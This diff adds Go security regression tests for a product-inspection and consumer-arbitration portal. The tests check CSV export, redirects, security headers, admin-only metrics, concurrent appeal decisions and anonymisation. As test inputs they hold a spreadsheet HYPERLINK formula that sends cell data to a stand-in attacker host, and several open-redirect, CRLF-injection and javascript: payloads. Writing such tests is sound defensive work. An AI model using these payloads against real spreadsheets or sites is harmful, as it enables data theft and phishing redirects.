@@ -1,0 +1,160 @@
+package app_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"net/url"
+	"strings"
+	"sync"
+	"testing"
+)
+
+// Issue 12, smaller points: a product category that a spreadsheet would run as a formula is
+// written to the public statistics CSV as text.
+func TestStatisticsCSVNeutralisesFormulas(t *testing.T) {
+	ts := startServer(t, nil)
+	inspector := ts.token(t, "inspector")
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	product := "csv-product-" + randomSuffix(t)
+	exec(t, ts, `INSERT INTO products (id, name, brand, category, origin_country) VALUES (?, '表格测试', 'X', ?, 'CN')`, product, formula)
+	inspection := map[string]any{"product_id": product, "kind": "market", "sampled_at": "2026-03-02T10:00:00+08:00",
+		"conclusion": "conformant", "items": []map[string]any{{"name": "外观", "standard": "GB 1", "value": "ok", "unit": "", "limit": "ok", "verdict": "pass"}}}
+	ts.created(t, "/api/v1/inspections", inspector, inspection)
+	refreshStats(t, ts)
+
+	r := ts.do(t, "GET", "/api/v1/public/stats?format=csv", "", nil)
+	records, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
+	if r.Status != 200 || err != nil {
+		t.Fatalf("CSV: %d %v", r.Status, err)
+	}
+	found := false
+	for _, rec := range records {
+		for _, cell := range rec {
+			if strings.Contains(cell, "HYPERLINK") {
+				found = true
+				if cell != "'"+formula {
+					t.Errorf("the category is written as %q, want it behind an apostrophe", cell)
+				}
+			}
+			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
+				t.Errorf("a cell a spreadsheet would run: %q", cell)
+			}
+		}
+	}
+	if !found {
+		t.Fatal("the category is not in the CSV")
+	}
+}
+
+// Issue 12, smaller points: "back" after a form never leaves the site, also not by a backslash
+// (browsers read "/\evil.example" as "//evil.example").
+func TestLanguageSwitchStaysOnTheSite(t *testing.T) {
+	ts := startServer(t, nil)
+	for _, back := range []string{"/\\evil.example", "//evil.example", "https://evil.example/", "/\\/evil.example",
+		"\\\\evil.example", "/%0d%0aLocation:%20https://evil.example", "javascript:alert(1)", "/ok\r\nX: y"} {
+		r := ts.form(t, "/lang", "", url.Values{"lang": {"en"}, "back": {back}})
+		if loc := r.Header.Get("Location"); r.Status != 303 || (loc != "/" && !strings.HasPrefix(loc, "/%")) {
+			t.Errorf("back=%q: %d to %q, want the home page", back, r.Status, loc)
+		}
+	}
+	if r := ts.form(t, "/lang", "", url.Values{"lang": {"en"}, "back": {"/complaints?status=filed"}}); r.Header.Get("Location") != "/complaints?status=filed" {
+		t.Errorf("a page of the site: %q", r.Header.Get("Location"))
+	}
+}
+
+// Issue 12, smaller points: pages and answers carry a Content-Security-Policy that allows no
+// script and no framing, a Referrer-Policy, and HSTS once the portal is served over HTTPS.
+func TestSecurityHeaders(t *testing.T) {
+	ts := startServer(t, nil)
+	for _, path := range []string{"/", "/signin", "/api/v1/jurisdictions"} {
+		r := ts.do(t, "GET", path, "", nil)
+		csp := r.Header.Get("Content-Security-Policy")
+		for _, want := range []string{"frame-ancestors 'none'", "script-src 'none'", "default-src 'self'", "form-action 'self'"} {
+			if !strings.Contains(csp, want) {
+				t.Errorf("%s: Content-Security-Policy %q lacks %s", path, csp, want)
+			}
+		}
+		if r.Header.Get("Referrer-Policy") == "" || r.Header.Get("X-Frame-Options") != "DENY" || r.Header.Get("X-Content-Type-Options") != "nosniff" {
+			t.Errorf("%s: headers %v", path, r.Header)
+		}
+		if r.Header.Get("Strict-Transport-Security") != "" {
+			t.Errorf("%s: HSTS over plain HTTP without PORTAL_SECURE_COOKIES", path)
+		}
+	}
+	secure := startServer(t, map[string]string{"PORTAL_SECURE_COOKIES": "true"})
+	if hsts := secure.do(t, "GET", "/", "", nil).Header.Get("Strict-Transport-Security"); !strings.HasPrefix(hsts, "max-age=") {
+		t.Errorf("HSTS with PORTAL_SECURE_COOKIES: %q", hsts)
+	}
+}
+
+// Issue 12, smaller points: /readyz tells the public only whether the portal is ready; an admin
+// also sees each check. /metrics is the admin's.
+func TestReadinessDetailsAndMetricsAreForAdmins(t *testing.T) {
+	ts := startServer(t, nil)
+	public := ts.do(t, "GET", "/readyz", "", nil).json(t)
+	if _, has := public["checks"]; has || public["ready"] != true {
+		t.Errorf("the public's readiness: %v, want only ready", public)
+	}
+	admin := ts.do(t, "GET", "/readyz", ts.token(t, "admin"), nil).json(t)
+	if checks, _ := admin["checks"].(map[string]any); checks["database"] != "ok" || checks["search"] != "ok" {
+		t.Errorf("the admin's readiness: %v", admin)
+	}
+	if r := ts.do(t, "GET", "/metrics", "", nil); r.Status != 401 {
+		t.Errorf("/metrics to the public: %d", r.Status)
+	}
+	if r := ts.do(t, "GET", "/metrics", ts.token(t, "admin"), nil); r.Status != 200 || !strings.Contains(string(r.Body), "# TYPE") {
+		t.Errorf("/metrics to an admin: %d", r.Status)
+	}
+}
+
+// Issue 12, smaller points: two admins deciding one appeal at once both applied. Of 10 parallel
+// decisions exactly one applies; the others find it decided (409).
+func TestParallelAppealDecisionsApplyOnce(t *testing.T) {
+	ts := startServer(t, nil)
+	inspector, merchant, admin := ts.token(t, "inspector"), ts.token(t, "merchant"), ts.token(t, "admin")
+	entry := ts.created(t, "/api/v1/negative-list", inspector, map[string]any{"party_id": "demo-merchant", "reason": "多次销售不合格产品"})["id"].(string)
+	appeal := ts.created(t, "/api/v1/negative-list/"+entry+"/appeals", merchant, map[string]any{"grounds": "已全部整改"})["id"].(string)
+	var wg sync.WaitGroup
+	statuses := make(chan int, 10)
+	for i := 0; i < 10; i++ {
+		decision := []string{"granted", "denied"}[i%2]
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			statuses <- ts.do(t, "POST", "/api/v1/appeals/"+appeal+"/decision", admin, map[string]any{"decision": decision, "reason": "审查"}).Status
+		}()
+	}
+	wg.Wait()
+	close(statuses)
+	count := map[int]int{}
+	for s := range statuses {
+		count[s]++
+	}
+	if count[200] != 1 || count[409] != 9 {
+		t.Fatalf("10 parallel decisions: %v, want one 200 and nine 409", count)
+	}
+	if n := ts.count(t, "audit_records", "action LIKE 'negative_list.appeal\\_%' AND after->>'appeal_id' = ?", appeal); n != 1 {
+		t.Errorf("%d decisions of one appeal were audited, want 1", n)
+	}
+}
+
+// Issue 12, smaller points: anonymisation edited the award's JSON text, so a claimant named `"`
+// broke the document and /public/rulings answered 500. It anonymises the award's values now.
+func TestRulingsOfAClaimantNamedAQuote(t *testing.T) {
+	ts := startServer(t, nil)
+	consumer := ts.token(t, "consumer")
+	k := ts.created(t, "/api/v1/cases", consumer, map[string]any{"respondent_id": "demo-merchant", "amount": "10.00", "currency": "CNY",
+		"claim": "退款", "agreement": "仲裁条款"})
+	exec(t, ts, `UPDATE users SET name = '"' WHERE id = ?`, ts.users["consumer"].ID)
+	exec(t, ts, `UPDATE cases SET status = 'published', published_at = now(),
+		award = '{"outcome": "upheld", "reasoning": "申请人\" 提交的证据成立，联系电话 13812345678。"}' WHERE id = ?`, k["id"])
+	r := ts.do(t, "GET", "/api/v1/public/rulings", "", nil)
+	if r.Status != 200 {
+		t.Fatalf("public rulings: %d %s", r.Status, r.Body)
+	}
+	items := r.json(t)["items"].([]any)
+	award := items[0].(map[string]any)["award"].(map[string]any)
+	if award["outcome"] != "upheld" || strings.Contains(award["reasoning"].(string), `"`) || strings.Contains(award["reasoning"].(string), "13812345678") {
+		t.Errorf("the published award: %v", award)
+	}
+}
